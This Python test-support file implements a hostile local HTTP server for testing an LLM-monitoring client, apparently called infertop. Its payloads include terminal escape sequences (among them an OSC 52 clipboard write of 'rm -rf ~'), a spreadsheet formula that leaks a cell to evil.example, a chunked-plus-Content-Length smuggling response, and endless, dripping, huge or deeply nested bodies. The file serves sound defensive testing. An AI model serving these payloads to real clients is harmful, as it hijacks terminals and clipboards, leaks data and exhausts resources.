"""A server that attacks its client on purpose, one way per URL prefix.

Point infertop at ``http://127.0.0.1:PORT/<mode>``; the client appends its own paths
(``/v1/models``, ``/v1/chat/completions``, ``/api/chat``, ``/metrics``, ``/api/v1/query``).
Modes:

ansi          a correct server whose words are terminal control sequences: the model id,
              the streamed text (OSC 52 clipboard write, OSC 0 title, CSI clear screen, a
              C1 CSI, BEL) and the finish reason; its /metrics (vLLM series and a DCGM
              GPU) carries them in its labels
ansi-error    a model list, then HTTP 500 to every request with control sequences in
              its JSON error message
endless       200, then one line that never ends, as fast as the client reads (a stream:
              ``data: xxxx...``; anything else: a body of ``x``), up to ENDLESS_LIMIT
huge          200 with Content-Length of 1 GiB, sent as fast as the client reads
drip          the head at once, then one body byte every DRIP_S, for ever
drip-head     the status line, then the headers one byte every DRIP_S, for ever
after         a correct keep-alive response, then AFTER_BYTES more bytes on the same
              connection (nobody asked for them)
formula       a stream whose only event is an error whose text is a spreadsheet formula
stall-later   the head, one event 0.2 s later, then silence (the socket stays open)
status-super  the status line ``HTTP/1.1 ² OK`` ("²".isdigit() is true)
endless-stream, drip-stream
              as endless and drip, but /v1/models answers a model list first
prom-shapes   a Prometheus API whose answers have odd shapes: a result vector of bare
              numbers, labels that are lists, a GPU labelled ``²``, a target of null labels
prom-deep     a Prometheus API whose answers are ``[`` nested 100,000 deep
props-gguf    a llama-server whose /props names the file in ``HostileServer.props_model_path``
              (a crafted GGUF on this machine), and answers a chat correctly
long-numbers  model lists (/v1/models, /api/tags, /api/ps) where one model's size has 400
              digits and another's 5000 (more than Python's int reads), beside a
              correct one
conn-cl       a model list whose Connection field lists Content-Length (no sender may:
              a proxy that obeys it strips the answer's only length)
cl-te         a chunked model list that also says Content-Length: 3 (the smuggling shape)
inflated      a model list, then "hi" whose continuous usage claims 2**53 - 1 tokens
              (tests/support/hostile_answers.py), its events 5 ms apart

Standard library only; run it in a thread with :func:`start_in_thread`. ``sent`` counts
the bytes written per mode (what a client that stops reading in time lets through).
"""

from __future__ import annotations

import asyncio
import json
import threading
from collections import Counter
from collections.abc import Callable

from tests.support.fake_server import FakeServer, read_path
from tests.support.fake_server import start_in_thread as serve_in_thread
from tests.support.hostile_answers import inflated_counts

ESC = "\x1b"
CLIPBOARD = f"{ESC}]52;c;cm0gLXJmIH4K\x07"  # OSC 52: put "rm -rf ~" on the clipboard
TITLE = f"{ESC}]0;pwned\x07"  # OSC 0: the window title
CLEAR = f"{ESC}[2J{ESC}[H"  # CSI: clear the screen, cursor home
C1_CSI = "\x9b31m"  # a C1 CSI in one character
EVIL_TEXT = f"Hello{CLIPBOARD}{TITLE}{CLEAR}{C1_CSI}\x07 world"
EVIL_MODEL = f"model{ESC}]0;owned-model\x07"
EVIL_REASON = f"stop{ESC}[2J"
EVIL_ERROR = f"boom{ESC}]52;c;ZXZpbA==\x07{ESC}[2J"
ESCAPES = (ESC, "\x9b", "\x07")  # none of these may reach a terminal

FORMULA = '=HYPERLINK("http://evil.example/?leak="&A1,"details")'  # a spreadsheet runs it

DRIP_S = 0.05
ENDLESS_LIMIT = 512 * 1024 * 1024  # the endless modes stop here (a client that never stops)
AFTER_BYTES = 64 * 1024 * 1024
BLOCK = b"x" * 1024


def sse(obj: object) -> bytes:
    return b"data: " + json.dumps(obj).encode() + b"\n\n"


def _head(status: str, ctype: str, length: int | None = None, keep: bool = False) -> bytes:
    h = [f"HTTP/1.1 {status}", f"Content-Type: {ctype}"]
    h.append("Connection: keep-alive" if keep else "Connection: close")
    if length is not None:
        h.append(f"Content-Length: {length}")
    return ("\r\n".join(h) + "\r\n\r\n").encode()


def _whole(body: bytes, ctype: str = "application/json", status: str = "200 OK") -> bytes:
    return _head(status, ctype, len(body)) + body


def _ansi_stream(ndjson: bool) -> bytes:
    if ndjson:
        lines = [
            {"model": EVIL_MODEL, "message": {"role": "assistant", "content": EVIL_TEXT}},
            {
                "model": EVIL_MODEL,
                "message": {"role": "assistant", "content": ""},
                "done": True,
                "done_reason": EVIL_REASON,
                "eval_count": 2,
            },
        ]
        return b"".join(json.dumps(x).encode() + b"\n" for x in lines)
    delta = {"choices": [{"index": 0, "delta": {"content": EVIL_TEXT}, "finish_reason": None}]}
    end = {"choices": [{"index": 0, "delta": {}, "finish_reason": EVIL_REASON}]}
    usage = {"choices": [], "usage": {"prompt_tokens": 3, "completion_tokens": 2}}
    return sse(delta) + sse(end) + sse(usage) + b"data: [DONE]\n\n"


def _metrics() -> bytes:
    """A vLLM /metrics page and a DCGM exporter's GPU, every label a control sequence."""
    evil = EVIL_MODEL.replace('"', "")
    gpu = f'gpu="0",UUID="GPU-0",modelName="{evil}",Hostname="box{ESC}[2J"'
    return (
        "# TYPE vllm:num_requests_running gauge\n"
        f'vllm:num_requests_running{{model_name="{evil}"}} 1\n'
        "# TYPE vllm:num_requests_waiting gauge\n"
        f'vllm:num_requests_waiting{{model_name="{evil}"}} 0\n'
        "# TYPE DCGM_FI_DEV_GPU_UTIL gauge\n"
        f"DCGM_FI_DEV_GPU_UTIL{{{gpu}}} 42\n"
        "# TYPE DCGM_FI_DEV_FB_USED gauge\n"
        f"DCGM_FI_DEV_FB_USED{{{gpu}}} 1000\n"
        "# TYPE DCGM_FI_DEV_FB_FREE gauge\n"
        f"DCGM_FI_DEV_FB_FREE{{{gpu}}} 3000\n"
    ).encode()


PROM_TARGET = {
    "labels": {"job": "vllm", "instance": "10.0.0.7:8000"},
    "scrapeUrl": "http://10.0.0.7:8000/metrics",
    "health": "up",
}


def _chat_stream() -> bytes:
    """A correct, short OpenAI chat stream: "Hello", a stop, the usage."""
    delta = {"choices": [{"index": 0, "delta": {"content": "Hello"}, "finish_reason": None}]}
    end = {"choices": [{"index": 0, "delta": {}, "finish_reason": "stop"}]}
    usage = {"choices": [], "usage": {"prompt_tokens": 3, "completion_tokens": 1}}
    return sse(delta) + sse(end) + sse(usage) + b"data: [DONE]\n\n"


LONG_400 = "9" * 400  # a size no model has; int() reads it, float() cannot
LONG_5000 = "9" * 5000  # more digits than int() reads (4300 by default)


def _long_numbers(path: str) -> bytes:
    """Model lists whose numbers JSON can write but Python cannot use: written with
    placeholders, then the digits put in their place."""
    data: object
    if path.endswith("/api/tags"):
        data = {
            "models": [
                {"name": "big", "size": "L400"},
                {"name": "bigger", "size": "L5000"},
                {"name": "fine", "size": 1000000, "details": {"parameter_size": "135M"}},
            ]
        }
    elif path.endswith("/api/ps"):
        data = {"models": [{"name": "big", "size": "L400", "size_vram": 1}]}
    else:
        data = {
            "object": "list",
            "data": [
                {"id": "big", "meta": {"size": "L400", "n_params": "L400"}},
                {"id": "bigger", "max_model_len": "L5000"},
                {"id": "fine", "meta": {"size": 1000000}},
            ],
        }
    text = json.dumps(data).replace('"L400"', LONG_400).replace('"L5000"', LONG_5000)
    return text.encode()


def _prom_shapes(path: str) -> bytes:
    if path.endswith("/api/v1/targets"):
        targets = [PROM_TARGET, {"labels": None, "health": "up"}, 7, {"labels": [1, 2]}]
        data: object = {"activeTargets": targets}
    elif path.endswith("/api/v1/query"):
        result = [
            1,
            {"metric": ["a"], "value": [0, "1"]},
            {"metric": {"job": "vllm", "instance": "10.0.0.7:8000", "gpu": "²"}, "value": 3},
            {"metric": {"job": 5, "instance": {"x": 1}}, "value": [0, "1"]},
            {"metric": {"job": "vllm", "instance": "10.0.0.7:8000", "gpu": "²"}, "value": [0, "2"]},
        ]
        data = {"resultType": "vector", "result": result}
    else:
        data = None
    return json.dumps({"status": "success", "data": data}).encode()


class HostileServer(FakeServer):
    def __init__(self) -> None:
        super().__init__()
        self.seen: list[str] = []
        self.props_model_path = ""  # what props-gguf's /props names as its model file
        self.sent: Counter[str] = Counter()

    async def serve(self, reader: asyncio.StreamReader, w: asyncio.StreamWriter) -> None:
        try:
            path = await read_path(reader)
            self.seen.append(path)
            await self._answer(path.split("?", 1)[0], w)
            await w.drain()
            w.close()
        except (ConnectionError, asyncio.IncompleteReadError, asyncio.LimitOverrunError):
            pass

    async def _send(self, mode: str, w: asyncio.StreamWriter, data: bytes) -> None:
        w.write(data)
        self.sent[mode] += len(data)
        await w.drain()

    async def _answer(self, path: str, w: asyncio.StreamWriter) -> None:
        mode = path.strip("/").split("/")[0]
        if mode.endswith("-stream"):  # a server that lists its models, then attacks
            if path.endswith("/v1/models"):
                w.write(_whole(json.dumps({"object": "list", "data": [{"id": "m"}]}).encode()))
                return
            mode = mode.removesuffix("-stream")
        stream = path.endswith(("/completions", "/api/chat", "/api/generate"))
        ndjson = "/api/" in path and stream
        ctype = "application/x-ndjson" if ndjson else "text/event-stream"
        if mode == "ansi":
            if path.endswith("/v1/models"):
                body = json.dumps({"object": "list", "data": [{"id": EVIL_MODEL}]}).encode()
                w.write(_whole(body))
            elif path.endswith("/metrics"):
                w.write(_whole(_metrics(), "text/plain; version=0.0.4"))
            else:
                w.write(_whole(_ansi_stream(ndjson), ctype))
        elif mode == "ansi-error" and path.endswith("/v1/models"):
            w.write(_whole(json.dumps({"object": "list", "data": [{"id": "m"}]}).encode()))
        elif mode == "ansi-error":
            body = json.dumps({"error": {"message": EVIL_ERROR}}).encode()
            w.write(_whole(body, status="500 Internal Server Error"))
        elif mode in ("endless", "huge"):
            if mode == "huge":
                w.write(_head("200 OK", "application/json", length=1 << 30))
            else:
                w.write(_head("200 OK", ctype if stream else "application/json"))
                if stream:
                    w.write(b"data: ")
            for _ in range(ENDLESS_LIMIT // len(BLOCK * 64)):
                await self._send(mode, w, BLOCK * 64)
        elif mode == "drip":
            w.write(_head("200 OK", ctype if stream else "text/plain"))
            if stream:
                w.write(b'data: {"choices": [')
            while True:
                await self._send(mode, w, b" ")
                await asyncio.sleep(DRIP_S)
        elif mode == "drip-head":
            await self._send(mode, w, b"HTTP/1.1 200 OK\r\nX-Drip: ")
            while True:
                await asyncio.sleep(DRIP_S)
                await self._send(mode, w, b"x")
        elif mode == "after":
            body = json.dumps({"object": "list", "data": [{"id": "m"}]}).encode()
            await self._send(mode, w, _head("200 OK", "application/json", len(body), True) + body)
            await asyncio.sleep(0.2)  # the client has read the response and pooled the socket
            for _ in range(AFTER_BYTES // len(BLOCK * 64)):
                await self._send(mode, w, BLOCK * 64)
                await asyncio.sleep(0.001)
        elif mode == "formula" and path.endswith("/v1/models"):
            w.write(_whole(json.dumps({"object": "list", "data": [{"id": "m"}]}).encode()))
        elif mode == "formula":  # an error inside the stream: its text is the server's own
            w.write(_whole(sse({"error": {"message": FORMULA}}), ctype))
        elif mode == "stall-later":  # the head; 0.2 s later one event; then silence
            await self._send(mode, w, _head("200 OK", ctype))
            await asyncio.sleep(0.2)
            delta = {"choices": [{"index": 0, "delta": {"content": "Hello"}}]}
            await self._send(mode, w, sse(delta))
            while not w.is_closing():  # (stop() aborts the socket: then this ends)
                await asyncio.sleep(0.1)
        elif mode == "status-super":
            w.write(b"HTTP/1.1 \xc2\xb2 OK\r\nContent-Length: 2\r\n\r\n{}")
        elif mode == "prom-shapes":
            w.write(_whole(_prom_shapes(path)))
        elif mode == "prom-deep":
            w.write(_whole(b"[" * 100_000))
        elif mode == "props-gguf" and path.endswith("/props"):
            props = {
                "total_slots": 1,
                "default_generation_settings": {"n_ctx": 2048},
                "model_path": self.props_model_path,
            }
            w.write(_whole(json.dumps(props).encode()))
        elif mode == "props-gguf" and path.endswith("/v1/models"):
            w.write(_whole(json.dumps({"object": "list", "data": [{"id": "m"}]}).encode()))
        elif mode == "props-gguf" and stream:
            w.write(_whole(_chat_stream(), ctype))
        elif mode == "long-numbers":
            w.write(_whole(_long_numbers(path)))
        elif mode in ("conn-cl", "cl-te"):
            body = json.dumps({"object": "list", "data": [{"id": "m"}]}).encode()
            if mode == "conn-cl":
                framing = b"Connection: content-length\r\nContent-Length: %d\r\n" % len(body)
            else:
                framing = b"Content-Length: 3\r\nTransfer-Encoding: chunked\r\n"
                body = b"%x\r\n%s\r\n0\r\n\r\n" % (len(body), body)
            w.write(b"HTTP/1.1 200 OK\r\nContent-Type: application/json\r\n" + framing + b"\r\n")
            await self._send(mode, w, body)
        elif mode == "inflated" and path.endswith("/v1/models"):
            w.write(_whole(json.dumps({"object": "list", "data": [{"id": "m"}]}).encode()))
        elif mode == "inflated":  # each event a read of its own
            await self._send(mode, w, _head("200 OK", ctype))
            for event in inflated_counts(2**53 - 1):
                await asyncio.sleep(0.005)
                await self._send(mode, w, event)
        else:
            w.write(_whole(b'{"error": "no such mode"}', status="404 Not Found"))


def start_in_thread(host: str = "127.0.0.1") -> tuple[int, HostileServer, Callable[[], None]]:
    """Serve on a daemon thread; returns (port, server, stop)."""
    return serve_in_thread(HostileServer(), "hostile-server", host)


def main() -> None:
    """``python -m tests.support.hostile_server``: serve on a free port, print it, until killed (for
    subprocess tests and benchmarks)."""
    import sys

    port, _server, _stop = start_in_thread()
    print(port, flush=True)
    try:
        threading.Event().wait()
    except KeyboardInterrupt:
        sys.exit(0)


if __name__ == "__main__":
    main()
